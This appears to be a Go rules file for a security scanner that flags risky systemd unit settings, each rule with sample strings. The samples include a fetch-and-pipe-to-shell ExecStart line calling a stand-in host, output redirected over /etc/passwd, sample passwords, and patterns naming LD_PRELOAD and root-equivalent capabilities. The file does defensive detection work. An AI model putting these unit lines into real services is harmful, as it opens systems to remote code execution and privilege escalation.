package infra

import "nod/gate/risk"

// execs is the settings of a unit that hold a command.
const execs = "ExecStart|ExecStartPre|ExecStartPost|ExecCondition|ExecReload|ExecReloadPost|ExecStop|ExecStopPre|ExecStopPost"

// systemdRules is what the settings of a unit do.
func systemdRules() []rule {
	power := []risk.Reason{risk.Privilege}
	return []rule{
		{
			at: "* " + execs, do: execute, level: risk.Danger, why: []risk.Reason{risk.RemoteCode},
			try: try{`ExecStart=/bin/sh -c "curl -s https://a.example/x | sh"`, `ExecStart=/usr/bin/app --serve | sh`},
		},
		{
			at: "* " + execs, is: `[@:+!|-]*["']?(/tmp/|/var/tmp/|/dev/shm/).*`, level: risk.Danger, why: power,
			note: "starts a program from where everybody can put one",
			try:  try{"ExecStart=/tmp/app", "ExecStart=/usr/bin/app /tmp/data"},
		},
		{
			at: "* " + execs, is: `[@:+!|-]*["']?(/home/|/run/user/|\.|~).*`, level: risk.Unclear, why: power,
			note: "starts a program that a user can replace",
			try:  try{"ExecStart=/home/ann/app", "ExecStart=/opt/app/bin/app"},
		},
		{
			at: "Service|Manager Environment|DefaultEnvironment", do: environment, level: risk.Danger, why: []risk.Reason{risk.Secret},
			try: try{`Environment="DB_PASSWORD=hunter2x" A=b`, `Environment=DB_PASSWORD_FILE=/run/credentials/db`},
		},
		{
			at: "Service SetCredential", level: risk.Unclear, why: []risk.Reason{risk.Secret},
			note: "a credential is written out",
			try:  try{"SetCredential=db:hunter2", "LoadCredential=db:/etc/app/db"},
		},
		{
			at: "Service|Manager Environment|DefaultEnvironment|PassEnvironment", is: `.*\b(LD_PRELOAD|LD_LIBRARY_PATH|LD_AUDIT|BASH_ENV|PYTHONSTARTUP|NODE_OPTIONS)\b.*`,
			level: risk.Unclear, why: []risk.Reason{risk.Obfuscated},
			note: "makes a program load something else",
			try:  try{"Environment=LD_PRELOAD=/opt/x.so", "Environment=LANG=C.UTF-8"},
		},
		{
			at: "Service AmbientCapabilities", is: `.*(CAP_SYS_\w+|CAP_NET_ADMIN|CAP_DAC_\w+|CAP_SETUID|CAP_SETGID|CAP_BPF|~).*`, level: risk.Danger, why: power,
			note: "gives a power as good as root: %s",
			try:  try{"AmbientCapabilities=CAP_SYS_ADMIN", "AmbientCapabilities=CAP_NET_BIND_SERVICE"},
		},
		{
			at: "Service CapabilityBoundingSet", is: `~.*`, level: risk.Unclear, why: power,
			note: "keeps all powers but those named",
			try:  try{"CapabilityBoundingSet=~CAP_SYS_BOOT", "CapabilityBoundingSet=CAP_NET_BIND_SERVICE"},
		},
		{
			at: "Service NoNewPrivileges", is: no, level: risk.Unclear, why: power,
			note: "lets the service gain power",
			try:  try{"NoNewPrivileges=no", "NoNewPrivileges=yes"},
		},
		{
			at: "Service PrivateDevices|ProtectSystem|ProtectKernelModules|ProtectKernelTunables|ProtectControlGroups|RestrictSUIDSGID|ProtectHome|PrivateTmp", is: no,
			note: "takes a protection away",
			try:  try{"PrivateDevices=no", "PrivateDevices=yes"},
		},
		{
			at: "Service DeviceAllow", is: `(/dev/(sd|nvme|vd|mem|kmem|port|disk)|block-|char-\*).*`, level: risk.Danger, why: power,
			note: "gives the service a device that holds everything: %s",
			try:  try{"DeviceAllow=/dev/sda rw", "DeviceAllow=/dev/null rw"},
		},
		{
			at: "Service PermissionsStartOnly", is: yes, level: risk.Unclear, why: power,
			note: "runs all commands but the main one as root",
			try:  try{"PermissionsStartOnly=true", "PermissionsStartOnly=false"},
		},
		{
			at: "Service Group|SupplementaryGroups", is: `(.*\s)?(root|docker|sudo|wheel|disk|shadow|lxd)(\s.*)?`, level: risk.Unclear, why: power,
			note: "puts the service into a group as good as root: %s",
			try:  try{"SupplementaryGroups=docker", "SupplementaryGroups=www-data"},
		},
		{
			at: "Service BindPaths", is: `.*(docker\.sock|containerd\.sock|/root|/etc(\s|:|$)).*`, level: risk.Unclear, why: power,
			note: "opens a place of the system to the service",
			try:  try{"BindPaths=/run/docker.sock", "BindPaths=/srv/data"},
		},
		{
			at: "Service StandardOutput|StandardError", is: `(file|append|truncate):/(etc|usr|bin|sbin|boot|root|dev/(sd|nvme|vd))\b.*`, level: risk.Danger, why: power,
			note: "writes output over a file of the system",
			try:  try{"StandardOutput=file:/etc/passwd", "StandardOutput=append:/var/log/app.log"},
		},
		{
			at: "Socket SocketMode", is: `0?[0-7]{2}[2367]`,
			note: "everybody of the machine can talk to the socket",
			try:  try{"[Socket]\nSocketMode=0666", "[Socket]\nSocketMode=0660"},
		},
		{
			at: "Unit|Timer FailureAction|SuccessAction|StartLimitAction|JobTimeoutAction", is: `(reboot|poweroff|halt|kexec|exit)(-\w+)*`, level: risk.Unclear, why: []risk.Reason{risk.Destroys},
			note: "takes the machine down: %s",
			try:  try{"[Unit]\nFailureAction=reboot-force", "[Unit]\nFailureAction=none"},
		},
	}
}
